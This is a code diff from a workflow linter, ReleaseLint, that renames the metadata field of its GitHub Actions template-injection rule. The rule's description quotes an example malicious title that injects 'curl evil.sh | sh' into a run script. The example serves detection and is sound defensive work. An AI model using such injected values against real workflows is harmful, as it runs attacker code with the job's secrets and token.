@@ -9,7 +9,7 @@ namespace ReleaseLint.Rules.Workflows;
 public sealed partial class RL1006TemplateInjection : WorkflowRule
 {
     /// <summary>The rule's metadata.</summary>
-    public static readonly RuleDescriptor Rule = new("RL1006", "template-injection",
+    public static readonly RuleDescriptor Definition = new("RL1006", "template-injection",
         "Untrusted text expanded into a script",
         "An attacker-controllable value (issue, pull request, comment and commit text, branch names such as github.head_ref, untyped inputs, or step, job and env values derived from them) expanded with ${{ }} inside a run: script or the script: of actions/github-script. GitHub pastes the value into the script before it runs, so a title like a\"; curl evil.sh | sh; \" runs as code with the job's secrets and token. Numbers, SHAs, ids, logins, step outcomes and ternaries of literals are known to be safe and are not reported.",
         Severity.Error, RuleCategory.Workflows, ["workflows", "security", "injection"], securitySeverity: 8.8)
@@ -18,7 +18,7 @@ public sealed partial class RL1006TemplateInjection : WorkflowRule
     };
 
     /// <inheritdoc />
-    public override RuleDescriptor Descriptor => Rule;
+    public override RuleDescriptor Descriptor => Definition;
 
     /// <inheritdoc />
     protected override bool IncludesActions => true;
